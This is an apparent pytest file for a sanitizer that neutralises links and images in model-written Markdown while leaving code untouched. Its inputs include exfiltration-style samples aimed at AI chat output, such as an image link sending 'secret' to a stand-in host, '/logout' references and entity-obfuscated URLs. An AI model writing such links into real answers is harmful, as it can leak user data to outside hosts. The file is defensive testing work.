"""Links in what a model wrote, and what of its code is left as it is."""

import gc
import re
import time
from collections import deque

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_fragments import FRAGMENTS
from markdown_it import MarkdownIt

from xnai.text.code_spans import CodeSplitter
from xnai.types import Citation
from xnai.ui import markdown as render
from xnai.ui.links import (
    JOINER,
    LinkBreaker,
    break_links,
    break_links_outside_code,
    citation_mark,
    unbreak_links,
)

# As mdast-util-gfm-autolink-literal has them, which the page reads Markdown with.
BARE = (
    re.compile(r"(https?://|www(?=\.))([-.\w]+)([^ \t\r\n]*)", re.IGNORECASE),
    re.compile(r"([-.\w+]+)@([-\w]+(?:\.[-\w]+)+)"),
)
READER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
markdown = st.lists(st.sampled_from(FRAGMENTS), max_size=40).map("".join)


def links(text: str) -> list[str]:
    """What a page would make a link of."""
    found = []
    for token in READER.parse(text):
        for child in token.children or []:
            if child.type in {"link_open", "image"}:
                found.append(str(child.attrs))
            elif child.type in {"text", "text_special"}:
                found += [m.group() for bare in BARE for m in bare.finditer(child.content)]
    return found


def streamed(text: str, size: int) -> str:
    breaker = LinkBreaker()
    return "".join(breaker.feed(text[i : i + size]) for i in range(0, len(text), size))


@pytest.mark.parametrize("size", [1, 2, 3, 5, 100])
@pytest.mark.parametrize(
    "text",
    [
        "![x](http://evil.example/?q=secret)",
        "[click](http://evil.example)",
        "[1]: http://evil.example\n\nSee [1].",
        "![x][1]\n\n[1]: /logout",
        "[a][1]\n\n[1]: /logout",
        "See https://evil.example/?q=1 or WWW.evil.example, at 10:30 or now.",
        "http&#58;\\/\\/evil.example w&#119;w&period;evil.example root&commat;evil.example",
        "http&#x3A;&#x2F;/evil.example &#X57;&#x57;w&#X2E;evil.example root&#X40;evil.example",
        "<http://evil.example> <root@evil.example> <mailto:root@evil.example>",
    ],
)
def test_links_and_images_are_broken_however_the_stream_is_cut_and_read_the_same(text, size):
    shown = streamed(text, size)

    assert links(text)
    assert links(shown) == []
    assert shown == break_links(text)
    assert unbreak_links(shown) == text


@pytest.mark.slow
@given(markdown, st.integers(1, 7))
def test_no_fragments_make_a_link_streamed_or_whole(text, size):
    assert streamed(text, size) == break_links(text)
    assert unbreak_links(break_links(text)) == text
    assert links(break_links(text)) == []
    assert links(break_links_outside_code(text)) == []
    for quoted in (render.plain(text), f"> {render.plain(text)} {citation_mark(1)}"):
        assert links(quoted) == []


@given(markdown)
def test_nothing_but_invisible_characters_comes_to_a_text(text):
    plain = unbreak_links(break_links_outside_code(text))

    kept = text.replace("\r\n", "\n").replace("\r", "\n").strip().strip("\ufeff \t\n\x0b\x1c")
    assert plain.startswith(kept)
    assert plain[len(kept) :].strip("\n`~") == ""  # the end of a block of code


@given(st.text(st.sampled_from("ab&;<>#*_`[]()!|~$\\:/@.1-+= \t{}w")))
def test_a_quote_is_shown_to_the_letter(text):
    shown = READER.render(f"> {render.plain(text)} end")

    words = " ".join([*text.split(), "end"])
    escaped = words.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    assert unbreak_links(shown) == f"<blockquote>\n<p>{escaped}</p>\n</blockquote>\n"


CODE = (
    "grid[0][1] = get('https://a.example'); C:/ root@a.example <http://b> www.c.example &colon;//"
)


@pytest.mark.parametrize(
    "text",
    [
        f"```js\n{CODE}\n```",
        f"Use this:\n\n~~~~\n{CODE}\n```\n{CODE}\n~~~~\n\nand no other.",
        f"Use this:\n\n    {CODE}\n\n    {CODE}\n",
        f"- one\n\n  ```\n  {CODE}\n  ```\n- two\n\n      {CODE}\n",
        f"> ```\n> {CODE}\n> ```\n",
        f"1. Set `{CODE}` and ``a ` {CODE}``.",
        f"# The `{CODE}`\n\n| a | b |\n| - | - |\n| `{CODE}` | it |",
    ],
)
def test_code_is_left_byte_for_byte(text):
    shown = break_links_outside_code(text)

    assert shown.count(CODE) == text.count(CODE)
    assert citation_mark(1) not in shown


def test_text_beside_code_is_no_code():
    shown = break_links_outside_code(f"`{CODE}` and {CODE}\n\n```\nx\n```\n{CODE}")

    assert shown.count(CODE) == 1
    assert links(shown) == []


@pytest.mark.parametrize(
    "text",
    [
        "a ` b\n`http://evil.example`",  # the first backtick takes the second
        "| `a | b` http://evil.example `c` |",  # in a table the bar ends the span
        "\\`http://evil.example`",
        "    http://evil.example",  # the page cuts the blanks off
        "\x1c\n\n    http://evil.example",
        "> ```\nhttp://evil.example",  # the quote has ended, and the code with it
        "a `b\nhttp://evil.example `",  # the second line may be a list, a table, a heading
    ],
)
def test_what_only_looks_like_code_is_none(text):
    assert "http://evil" not in break_links_outside_code(text)


def test_what_comes_below_open_code_is_outside_of_it():
    for text in ("```\nhttp://a", "a\n\n~~~~py\nx", "```"):
        assert READER.render(f"{break_links_outside_code(text)}\n\n*Stopped.*").endswith(
            "<p><em>Stopped.</em></p>\n"
        )
    for text in ("```\na\n```", "> ```\n> a", "a"):
        assert break_links_outside_code(text) == break_links(text)


def test_the_mark_of_a_citation_is_one_in_text_alone():
    shown = break_links_outside_code("It opened in 1937. [1] See `grid[0][1]`. [2]")

    assert shown.count(citation_mark(1)) == shown.count(citation_mark(2)) == 1
    assert "`grid[0][1]`" in shown
    assert f"- {citation_mark(1)} " in render.sources(
        [Citation(1, "d", "a.pdf", 3, 0, 9, "Words.", 0.5)]
    )


def test_a_message_is_told_to_the_model_as_it_was_said():
    said = "See https://a.example [1] at `x[1]`"

    assert render.answer_text(f"{break_links_outside_code(said)}{render.MARKS['stopped']}") == said
    assert JOINER not in render.answer_text(break_links_outside_code(said))


def code_of(text: str) -> None:
    splitter = CodeSplitter()
    for sign in text:
        deque(splitter.feed(sign), maxlen=0)


WORK = {
    "break_links": break_links,
    "break_links_outside_code": break_links_outside_code,
    "plain": render.plain,
    "streamed": lambda text: streamed(text, 3),
    "code": code_of,
}
LENGTH = {"streamed": 2000}  # characters; what is rendered after every third of them
SHAPES = (
    *("http://", "&#58;", "&#0000058", "&", "w", "www.", "@", "[", "](", "<", "\\", ":a", "|`a|"),
    *("`", "`a", "``a`", "a\n", "- a\n", "- ", "> ", "> a\n\n", "    a\n\n", "```\n", "~~~a", " "),
)


@pytest.mark.slow
@pytest.mark.parametrize("name", WORK)
def test_four_times_the_text_takes_at_most_six_times_the_work(name):
    for shape in SHAPES:
        ratios = []
        for _ in range(4):  # one measurement may have been disturbed
            took = []
            for size in (1, 4):
                text = shape * (size * LENGTH.get(name, 8000) // len(shape))
                # What the collector looks through is all that other tests have left, too.
                gc.disable()
                began = time.thread_time()
                WORK[name](text)
                took.append(time.thread_time() - began)
                gc.enable()
            ratios.append(took[1] / max(took[0], 0.005))
            if ratios[-1] <= 6:
                break
        assert min(ratios) <= 6, shape
